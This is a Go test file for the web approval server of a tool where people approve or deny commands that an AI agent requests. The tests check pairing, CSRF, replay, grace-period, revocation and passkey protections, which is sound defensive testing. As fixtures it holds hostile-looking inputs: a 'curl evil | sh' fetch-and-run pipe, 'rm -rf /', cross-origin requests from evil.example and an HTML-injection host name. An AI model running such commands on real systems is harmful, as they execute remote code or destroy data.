package web

import (
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/sluice-dev/sluice/queue"
)

const digestA = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
const digestB = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"

func TestNoDecisionWithoutPairedDevice(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.src.put("r1", "rm -rf build", digestA)
	for _, hdr := range []map[string]string{
		{},
		{"Cookie": sessionCookie + "=nothing"},
		{"Cookie": sessionCookie + "=0123456789abcdef.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"},
	} {
		for _, path := range []string{"/api/request/r1/approve", "/api/request/r1/deny"} {
			w := r.do("POST", path, `{"digest":"`+digestA+`"}`, hdr)
			if w.Code != http.StatusUnauthorized {
				t.Errorf("POST %s with %v: %d, want 401", path, hdr, w.Code)
			}
		}
		for _, path := range []string{"/api/queue", "/api/request/r1", "/api/events", "/api/history", "/api/output/r1"} {
			if w := r.do("GET", path, "", hdr); w.Code != http.StatusUnauthorized {
				t.Errorf("GET %s with %v: %d, want 401", path, hdr, w.Code)
			}
		}
	}
	if n := r.src.decisions(); n != 0 {
		t.Fatalf("%d decisions reached the box without a paired device", n)
	}
}

func TestCrossOriginPostRefused(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	r.src.put("r1", "make deploy", digestA)
	v := r.show(d, "r1")
	r.clk.add(time.Minute)
	cookie := sessionCookie + "=" + d.cookie
	cases := map[string]map[string]string{
		"another site, by Sec-Fetch-Site": {"Cookie": cookie, csrfHeader: d.csrf, "Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"},
		"another origin, by Origin only":  {"Cookie": cookie, csrfHeader: d.csrf, "Origin": "https://evil.example"},
		"same site, other origin":         {"Cookie": cookie, csrfHeader: d.csrf, "Sec-Fetch-Site": "same-site", "Origin": "http://127.0.0.1:9999"},
		"no CSRF token":                   {"Cookie": cookie, "Origin": "http://127.0.0.1:8787", "Sec-Fetch-Site": "same-origin"},
		"another session's CSRF token":    {"Cookie": cookie, csrfHeader: csrfFor("x.y"), "Origin": "http://127.0.0.1:8787", "Sec-Fetch-Site": "same-origin"},
	}
	for name, hdr := range cases {
		for _, path := range []string{"/api/request/r1/approve", "/api/request/r1/deny"} {
			if w := r.do("POST", path, approveBody(v), hdr); w.Code != http.StatusForbidden {
				t.Errorf("%s: POST %s: %d %s, want 403", name, path, w.Code, w.Body)
			}
		}
	}
	// The pairing form too: a page of another site cannot spend a code.
	code, _ := r.store.NewCode("laptop", "alice", r.clk.now())
	if w := r.do("POST", "/api/pair", `{"code":"`+code+`"}`, map[string]string{"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"}); w.Code != http.StatusForbidden {
		t.Errorf("cross-site pairing: %d, want 403", w.Code)
	}
	if n := r.src.decisions(); n != 0 {
		t.Fatalf("%d cross-origin decisions reached the box", n)
	}
	// The same request from the page itself goes through.
	if w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v)); w.Code != http.StatusOK {
		t.Fatalf("same-origin approval: %d %s", w.Code, w.Body)
	}
}

func TestReplayedDecisionRefused(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	r.src.put("r1", "go test ./...", digestA)
	v := r.show(d, "r1")
	r.clk.add(2 * time.Second)
	if w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v)); w.Code != http.StatusOK {
		t.Fatalf("approval: %d %s", w.Code, w.Body)
	}
	// The agent submits the same request again under the same id (or a
	// replay comes later): the old showing does not approve it.
	r.src.put("r1", "go test ./...", digestA)
	w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v))
	if w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "already used") {
		t.Fatalf("replayed approval: %d %s, want 409 already used", w.Code, w.Body)
	}
	if len(r.src.approvals) != 1 {
		t.Fatalf("approvals that reached the box: %v", r.src.approvals)
	}
	if !strings.HasSuffix(r.src.approvals[0], "alice@phone (via web)") {
		t.Errorf("approval recorded as %q, want alice@phone (via web)", r.src.approvals[0])
	}
}

func TestPairingCodeOnceFiveMinutesFiveTries(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 27, 12, 0, 0, 0, time.UTC)
	newStore := func(t *testing.T) *Store {
		s, err := OpenStore(t.TempDir() + "/web")
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	t.Run("reused", func(t *testing.T) {
		t.Parallel()
		s := newStore(t)
		code, _ := s.NewCode("phone", "alice", now)
		if _, _, err := s.Pair(code, "ua", time.Hour, now); err != nil {
			t.Fatal(err)
		}
		if _, _, err := s.Pair(code, "ua", time.Hour, now); !errors.Is(err, ErrNoCode) {
			t.Fatalf("second use of a code: %v, want ErrNoCode", err)
		}
	})
	t.Run("expired", func(t *testing.T) {
		t.Parallel()
		s := newStore(t)
		code, _ := s.NewCode("phone", "alice", now)
		if _, _, err := s.Pair(code, "ua", time.Hour, now.Add(CodeTTL)); !errors.Is(err, ErrCodeExpired) {
			t.Fatalf("code used at its expiry: %v, want ErrCodeExpired", err)
		}
		if _, _, err := s.Pair(code, "ua", time.Hour, now); !errors.Is(err, ErrNoCode) {
			t.Fatalf("expired code after: %v, want it gone", err)
		}
	})
	t.Run("five tries", func(t *testing.T) {
		t.Parallel()
		s := newStore(t)
		code, _ := s.NewCode("phone", "alice", now)
		for i := 1; i < CodeTries; i++ {
			if _, _, err := s.Pair("WRONGWRONG", "ua", time.Hour, now); !errors.Is(err, ErrWrongCode) {
				t.Fatalf("try %d: %v, want ErrWrongCode", i, err)
			}
		}
		if _, _, err := s.Pair("WRONGWRONG", "ua", time.Hour, now); !errors.Is(err, ErrCodeSpent) {
			t.Fatalf("fifth wrong try: %v, want ErrCodeSpent", err)
		}
		if _, _, err := s.Pair(code, "ua", time.Hour, now); !errors.Is(err, ErrNoCode) {
			t.Fatalf("the right code after five wrong tries: %v, want it void", err)
		}
		if devs, _ := s.Devices(); len(devs) != 0 {
			t.Fatalf("devices: %v", devs)
		}
	})
	t.Run("typed loosely", func(t *testing.T) {
		t.Parallel()
		s := newStore(t)
		code, _ := s.NewCode("phone", "alice", now)
		typed := strings.ToLower(code[:5]) + "-" + code[5:]
		dev, cookie, err := s.Pair(typed, "ua", time.Hour, now)
		if err != nil {
			t.Fatal(err)
		}
		if got, err := s.Session(cookie, now); err != nil || got.ID != dev.ID {
			t.Fatalf("session of the new device: %v %v", got, err)
		}
		if _, err := s.Session(cookie, now.Add(time.Hour)); !errors.Is(err, ErrNoDevice) {
			t.Fatalf("session past its ttl: %v, want ErrNoDevice", err)
		}
	})
	t.Run("audited", func(t *testing.T) {
		t.Parallel()
		r := newRig(t)
		r.pair("phone")
		if len(r.audit) != 1 || r.audit[0].Event != EventPaired || r.audit[0].Actor != "alice" || !strings.Contains(r.audit[0].Reason, "phone") {
			t.Fatalf("audit after pairing: %+v", r.audit)
		}
	})
}

func TestRevokedDeviceRefused(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	other := r.pair("laptop")
	r.src.put("r1", "git push", digestA)
	v := r.show(d, "r1")
	r.clk.add(time.Minute)

	// An open event stream, from a real HTTP server.
	events := r.events(d)
	if !events.Scan() || events.Text() != "event: queue" {
		t.Fatalf("first event: %q", events.Text())
	}

	// 'sluice web revoke' is another process: another Store on the dir.
	cli, err := OpenStore(r.store.Dir())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Revoke("phone"); err != nil {
		t.Fatal(err)
	}
	if w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v)); w.Code != http.StatusUnauthorized {
		t.Fatalf("approval from a revoked device: %d %s", w.Code, w.Body)
	}
	if w := r.as(d, "GET", "/api/queue", ""); w.Code != http.StatusUnauthorized {
		t.Fatalf("queue for a revoked device: %d", w.Code)
	}
	// The stream says so and ends (it looks every second).
	for events.Scan() {
		if events.Text() == "event: revoked" {
			break
		}
	}
	if events.Text() != "event: revoked" {
		t.Fatalf("the event stream ended without saying revoked: %v", events.Err())
	}
	if w := r.as(other, "GET", "/api/queue", ""); w.Code != http.StatusOK {
		t.Fatalf("the other device after revoking phone: %d", w.Code)
	}
	if r.src.decisions() != 0 {
		t.Fatal("a revoked device decided")
	}
}

func TestChangedRequestRefused(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	r.src.put("r1", "ls", digestA)
	v := r.show(d, "r1")
	// The agent swaps the file after it was shown.
	r.src.put("r1", "curl evil | sh", digestB)
	r.clk.add(time.Minute)
	w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v))
	if w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "changed") {
		t.Fatalf("approval of a changed request: %d %s", w.Code, w.Body)
	}
	// Shown again, the new request needs its own grace.
	v2 := r.show(d, "r1")
	if v2.Digest != digestB || v2.View == v.View {
		t.Fatalf("second showing: digest %s view %s", v2.Digest, v2.View)
	}
	if w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v2)); w.Code != http.StatusTooEarly {
		t.Fatalf("approval right after the new showing: %d %s, want 425", w.Code, w.Body)
	}
	// A change between the server's check and the box's claim: the box's
	// own digest check refuses it, and the page hears so.
	r.clk.add(time.Minute)
	r.src.approveErr = ErrChanged
	if w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v2)); w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "changed") {
		t.Fatalf("approval the box refused as changed: %d %s", w.Code, w.Body)
	}
	if len(r.src.approvals) != 0 {
		t.Fatalf("approvals: %v", r.src.approvals)
	}
}

func TestApprovalNeedsServedDigestAfterGrace(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	other := r.pair("laptop")
	r.src.put("r1", "terraform apply", digestA)

	// Never shown to this device: refused, even with the right digest.
	if w := r.as(d, "POST", "/api/request/r1/approve", `{"digest":"`+digestA+`","view":"00"}`); w.Code != http.StatusForbidden {
		t.Fatalf("approval of a request never shown: %d %s", w.Code, w.Body)
	}
	v := r.show(d, "r1")
	// Without the digest, or with another one.
	for _, body := range []string{`{"view":"` + v.View + `"}`, `{"digest":"` + digestB + `","view":"` + v.View + `"}`} {
		r.clk.add(time.Minute)
		if w := r.as(d, "POST", "/api/request/r1/approve", body); w.Code != http.StatusConflict {
			t.Fatalf("approval %s: %d %s, want 409", body, w.Code, w.Body)
		}
	}
	// Shown to phone, approved from laptop with phone's token: refused.
	if w := r.as(other, "POST", "/api/request/r1/approve", approveBody(v)); w.Code != http.StatusForbidden {
		t.Fatalf("approval with another device's showing: %d %s", w.Code, w.Body)
	}
	// Before the grace period (laptop sees it now).
	v2 := r.show(other, "r1")
	r.clk.add(DefaultGrace - time.Millisecond)
	if w := r.as(other, "POST", "/api/request/r1/approve", approveBody(v2)); w.Code != http.StatusTooEarly {
		t.Fatalf("approval before the grace: %d %s, want 425", w.Code, w.Body)
	}
	// Reloading does not restart the grace, nor mint a new token.
	if again := r.show(other, "r1"); again.View != v2.View || again.WaitMS != 1 {
		t.Fatalf("showing again: view %s wait %d", again.View, again.WaitMS)
	}
	r.clk.add(time.Millisecond)
	if w := r.as(other, "POST", "/api/request/r1/approve", approveBody(v2)); w.Code != http.StatusOK {
		t.Fatalf("approval after the grace: %d %s", w.Code, w.Body)
	}
	if got := r.src.approvals; len(got) != 1 || got[0] != "r1 "+digestA+" alice@laptop (via web)" {
		t.Fatalf("approvals: %v", got)
	}
	// First decision wins: phone, late, hears who won.
	w := r.as(d, "POST", "/api/request/r1/approve", approveBody(v))
	if w.Code != http.StatusConflict || !strings.Contains(w.Body.String(), "alice@laptop (via web)") {
		t.Fatalf("late approval: %d %s, want who won", w.Code, w.Body)
	}
}

func TestDenyReasonReachesTheBox(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	r.src.put("r1", "rm -rf /", digestA)
	w := r.as(d, "POST", "/api/request/r1/deny", `{"reason":"not on main\u001b[2J, use a branch"}`)
	if w.Code != http.StatusOK {
		t.Fatalf("deny: %d %s", w.Code, w.Body)
	}
	if got := r.src.denials; len(got) != 1 || got[0] != "r1 alice@phone (via web) not on main [2J, use a branch" {
		t.Fatalf("denials: %q", got)
	}
}

func TestLoopbackOnlyAnswersLoopbackNames(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	req := httptest.NewRequest("GET", "http://attacker.example:8787/api/session", nil)
	w := httptest.NewRecorder()
	r.srv.ServeHTTP(w, req)
	if w.Code != http.StatusMisdirectedRequest {
		t.Fatalf("a rebound host name: %d, want 421", w.Code)
	}
	for _, host := range []string{"localhost:8787", "127.0.0.1:8787", "[::1]:8787"} {
		req := httptest.NewRequest("GET", "http://"+host+"/api/session", nil)
		w := httptest.NewRecorder()
		r.srv.ServeHTTP(w, req)
		if w.Code != http.StatusOK {
			t.Errorf("%s: %d", host, w.Code)
		}
	}
}

func TestListenBeyondLoopbackNeedsTLS(t *testing.T) {
	t.Parallel()
	for _, addr := range []string{"127.0.0.1:8787", "localhost:1", "[::1]:8787"} {
		if lo, err := CheckListen(addr, false); err != nil || !lo {
			t.Errorf("%s: %v %v", addr, lo, err)
		}
	}
	for _, addr := range []string{":8787", "0.0.0.0:8787", "192.168.1.5:8787", "box.example:443"} {
		_, err := CheckListen(addr, false)
		if err == nil {
			t.Errorf("%s without TLS: accepted", addr)
			continue
		}
		for _, want := range []string{"ssh -L", "tailscale serve", "TLS reverse proxy", "--tls-cert"} {
			if !strings.Contains(err.Error(), want) {
				t.Errorf("%s: the refusal does not name %q: %v", addr, want, err)
			}
		}
		if _, err := CheckListen(addr, true); err != nil {
			t.Errorf("%s with TLS: %v", addr, err)
		}
	}
}

func TestSecureCookiesWithTLS(t *testing.T) {
	t.Parallel()
	store, _ := OpenStore(t.TempDir() + "/web")
	srv, err := NewServer(newFake(), store, Options{Secure: true})
	if err != nil {
		t.Fatal(err)
	}
	w := httptest.NewRecorder()
	srv.ServeHTTP(w, httptest.NewRequest("GET", "https://box.example/api/session", nil))
	cs := w.Result().Cookies()
	if len(cs) != 1 || !cs[0].Secure || !cs[0].HttpOnly || cs[0].SameSite != http.SameSiteStrictMode {
		t.Fatalf("cookies: %+v", cs)
	}
	if csp := w.Header().Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe") {
		t.Fatalf("CSP: %q", csp)
	}
}

func TestEventsEndWithTheRequest(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	sc := r.events(d)
	// A request arrives after the stream opened: it comes as a queue event.
	r.src.put("late", "echo <b>late</b>", digestA)
	for sc.Scan() {
		if strings.HasPrefix(sc.Text(), "data: ") && strings.Contains(sc.Text(), `"id":"late"`) {
			if strings.Contains(sc.Text(), "<b>") {
				t.Fatalf("markup in an event: %s", sc.Text())
			}
			return
		}
	}
	t.Fatalf("no queue event with the new request: %v", sc.Err())
}

func TestPasskeyRequiredForDestructive(t *testing.T) {
	t.Parallel()
	r := newRigWith(t, true)
	d := r.pair("phone")
	r.src.put("wipe", "rm -rf build", digestA)
	r.src.asks("wipe", "destructive")
	r.src.put("touch", "touch x", digestB)
	r.src.asks("touch", "mutating")
	vw, vt := r.show(d, "wipe"), r.show(d, "touch")
	if !vw.Passkey || vt.Passkey {
		t.Fatalf("passkey needed: destructive %v, mutating %v", vw.Passkey, vt.Passkey)
	}
	r.clk.add(time.Minute)
	// No passkey on the device: it cannot even be asked.
	if w := r.as(d, "POST", "/api/request/wipe/passkey", approveBody(vw)); w.Code != http.StatusConflict {
		t.Fatalf("assertion without a passkey: %d %s", w.Code, w.Body)
	}
	// Without an assertion, or with a forged one: refused.
	for _, assertion := range []string{"", `,"assertion":{"id":"eA","rawId":"eA","type":"public-key","response":{}}`} {
		v := r.show(d, "wipe") // a spent showing is shown anew
		r.clk.add(time.Minute)
		body := `{"digest":"` + v.Digest + `","view":"` + v.View + `"` + assertion + `}`
		if w := r.as(d, "POST", "/api/request/wipe/approve", body); w.Code != http.StatusForbidden || !strings.Contains(w.Body.String(), "passkey") {
			t.Fatalf("destructive approval without a passkey (%s): %d %s", body, w.Code, w.Body)
		}
	}
	// The run a passkey does not guard goes through as before.
	if w := r.as(d, "POST", "/api/request/touch/approve", approveBody(vt)); w.Code != http.StatusOK {
		t.Fatalf("mutating approval: %d %s", w.Code, w.Body)
	}
	if got := r.src.approvals; len(got) != 1 || !strings.HasPrefix(got[0], "touch ") {
		t.Fatalf("approvals: %v", got)
	}
}

// Approving straight from the queue is held to the detail's rules: the
// row's digest and token as served to this device, at least the grace
// period before, one showing shared with the detail; a row that cannot
// show its whole request offers none.
func TestListApprovalNeedsServedDigestAfterGrace(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	other := r.pair("laptop")
	r.src.put("short", "make test", digestA)
	r.src.put("long", "echo "+strings.Repeat("x", listWholeMax), digestB)
	r.src.put("lines", "make\nmake install", digestB)

	// Never listed for this device: refused, even with the digest.
	if w := r.as(d, "POST", "/api/request/short/approve", `{"digest":"`+digestA+`","view":"00"}`); w.Code != http.StatusForbidden {
		t.Fatalf("approval of a row never served: %d %s", w.Code, w.Body)
	}
	rows := r.list(d)
	row := rows["short"]
	if row.Approve == nil || row.Approve.Digest != digestA || row.Approve.View == "" || row.Approve.WaitMS != DefaultGrace.Milliseconds() {
		t.Fatalf("the short row's approval: %+v", row.Approve)
	}
	if row.Where == nil || len(row.Where.Lines) != 1 || row.Where.Lines[0][0].T != "/p" {
		t.Errorf("the short row's working directory: %+v", row.Where)
	}
	for _, id := range []string{"long", "lines"} {
		if rows[id].Approve != nil {
			t.Errorf("row %s (not shown whole) offers an approval: %+v", id, rows[id].Approve)
		}
	}
	// The detail is the same showing: same token, the grace running on.
	r.clk.add(500 * time.Millisecond)
	if v := r.show(d, "short"); v.View != row.Approve.View || v.WaitMS != (DefaultGrace-500*time.Millisecond).Milliseconds() {
		t.Fatalf("the detail after the list: view %s (row's %s), wait %d", v.View, row.Approve.View, v.WaitMS)
	}
	// Listing again neither restarts the grace nor mints a token.
	if again := r.list(d)["short"]; again.Approve.View != row.Approve.View || again.Approve.WaitMS != 1000 {
		t.Fatalf("listed again: %+v", again.Approve)
	}
	// Before the grace period.
	if w := r.as(d, "POST", "/api/request/short/approve", rowApproval(row, "")); w.Code != http.StatusTooEarly {
		t.Fatalf("list approval before the grace: %d %s, want 425", w.Code, w.Body)
	}
	r.clk.add(time.Minute)
	// Without the digest, or with the long row's: refused.
	for _, body := range []string{`{"view":"` + row.Approve.View + `"}`, `{"digest":"` + digestB + `","view":"` + row.Approve.View + `"}`} {
		if w := r.as(d, "POST", "/api/request/short/approve", body); w.Code != http.StatusConflict {
			t.Fatalf("list approval %s: %d %s, want 409", body, w.Code, w.Body)
		}
	}
	// Another device with this device's showing: refused.
	if w := r.as(other, "POST", "/api/request/short/approve", rowApproval(row, "")); w.Code != http.StatusForbidden {
		t.Fatalf("list approval with another device's showing: %d %s", w.Code, w.Body)
	}
	// The long row's request, approved with a token it was never served:
	// refused, whatever digest it names.
	if w := r.as(d, "POST", "/api/request/long/approve", `{"digest":"`+digestB+`","view":"`+row.Approve.View+`"}`); w.Code != http.StatusForbidden {
		t.Fatalf("approval of a row served without one: %d %s", w.Code, w.Body)
	}
	if w := r.as(d, "POST", "/api/request/short/approve", rowApproval(row, "")); w.Code != http.StatusOK {
		t.Fatalf("list approval after the grace: %d %s", w.Code, w.Body)
	}
	if got := r.src.approvals; len(got) != 1 || got[0] != "short "+digestA+" alice@phone (via web)" {
		t.Fatalf("approvals: %v", got)
	}
}

// The queue's rows are what the events stream sends too: a row's
// showing, sent there, is recorded as served like the list's.
func TestEventsServeListApprovals(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	r.src.put("r1", "go test ./...", digestA)
	sc := r.events(d)
	var rows []itemView
	for sc.Scan() {
		if data, ok := strings.CutPrefix(sc.Text(), "data: "); ok && strings.Contains(data, `"id":"r1"`) {
			if err := json.Unmarshal([]byte(data), &rows); err != nil {
				t.Fatal(err)
			}
			break
		}
	}
	if len(rows) != 1 || rows[0].Approve == nil {
		t.Fatalf("the queue event: %+v (%v)", rows, sc.Err())
	}
	if w := r.as(d, "POST", "/api/request/r1/approve", rowApproval(rows[0], "")); w.Code != http.StatusTooEarly {
		t.Fatalf("approval before the grace: %d %s", w.Code, w.Body)
	}
	r.clk.add(DefaultGrace)
	if w := r.as(d, "POST", "/api/request/r1/approve", rowApproval(rows[0], "")); w.Code != http.StatusOK {
		t.Fatalf("approval with the event's showing: %d %s", w.Code, w.Body)
	}
}

// A connect request is answered from its row once it was served to the
// device, with no grace (it asks about a host, nothing to read): once, for
// the rest of the run where the source can, or refused.
func TestConnectFromList(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	d := r.pair("phone")
	r.src.putConnect("c1", "<img>evil.example", 443, digestA)
	r.src.putConnect("c2", "a.example", 80, digestB)
	r.src.put("r1", "make", digestA)
	if w := r.as(d, "POST", "/api/request/c1/approve", `{"digest":"`+digestA+`","view":"00"}`); w.Code != http.StatusForbidden {
		t.Fatalf("a connection allowed before it was shown: %d %s", w.Code, w.Body)
	}
	rows := r.list(d)
	c1 := rows["c1"]
	if c1.Connect == nil || c1.Approve == nil || c1.Approve.WaitMS != 0 {
		t.Fatalf("the connect row: %+v %+v", c1.Connect, c1.Approve)
	}
	if c1.Connect.Run != "HQ1DER5X" || plainOf(c1.Connect.Target) != "<img>evil.example:443" || plainOf(c1.Connect.Command) != "npm install" {
		t.Errorf("the question: run %q target %q command %q", c1.Connect.Run, plainOf(c1.Connect.Target), plainOf(c1.Connect.Command))
	}
	if w := r.as(d, "POST", "/api/request/c1/approve", rowApproval(c1, "forever")); w.Code != http.StatusBadRequest {
		t.Fatalf("a scope that is not once or run: %d %s", w.Code, w.Body)
	}
	if w := r.as(d, "POST", "/api/request/c1/approve", rowApproval(c1, queue.ScopeRun)); w.Code != http.StatusOK {
		t.Fatalf("allow for the run, at once: %d %s", w.Code, w.Body)
	}
	if w := r.as(d, "POST", "/api/request/c2/approve", rowApproval(rows["c2"], "")); w.Code != http.StatusOK {
		t.Fatalf("allow once: %d %s", w.Code, w.Body)
	}
	// A command's row still waits out the grace.
	if w := r.as(d, "POST", "/api/request/r1/approve", rowApproval(rows["r1"], queue.ScopeRun)); w.Code != http.StatusTooEarly {
		t.Fatalf("a command right after it was listed: %d %s", w.Code, w.Body)
	}
	want := []string{"c1 " + digestA + " alice@phone (via web) run", "c2 " + digestB + " alice@phone (via web) once"}
	if got := r.src.approvals; strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("approvals: %q, want %q", got, want)
	}
	r.src.putConnect("c3", "b.example", 443, digestB)
	if w := r.as(d, "POST", "/api/request/c3/deny", `{}`); w.Code != http.StatusOK {
		t.Fatalf("refuse: %d %s", w.Code, w.Body)
	}
}

// A row whose approval needs the device's passkey, a file change and a
// tool's call are approved from their detail only.
func TestListApprovalNotForPasskeyOrFiles(t *testing.T) {
	t.Parallel()
	r := newRigWith(t, true)
	d := r.pair("phone")
	r.src.put("wipe", "rm -rf build", digestA)
	r.src.put("touch", "touch x", digestB)
	r.src.put("edit", "", digestA)
	r.src.put("tool", "", digestA)
	r.src.asks("wipe", "destructive")
	for _, id := range []string{"touch", "edit", "tool"} {
		r.src.asks(id, "mutating")
	}
	r.src.mu.Lock()
	r.src.items["edit"].Request.Kind, r.src.items["edit"].Request.Path = queue.KindEdit, "/p/x"
	r.src.items["tool"].Request.Kind, r.src.items["tool"].Request.Tool = queue.KindTool, "WebFetch"
	r.src.mu.Unlock()
	rows := r.list(d)
	for id, want := range map[string]bool{"wipe": false, "touch": true, "edit": false, "tool": false} {
		if got := rows[id].Approve != nil; got != want {
			t.Errorf("row %s offers an approval: %v, want %v", id, got, want)
		}
	}
}

func plainOf(sh Shown) string {
	var b strings.Builder
	for _, l := range sh.Lines {
		for _, s := range l {
			b.WriteString(s.T)
		}
	}
	return b.String()
}
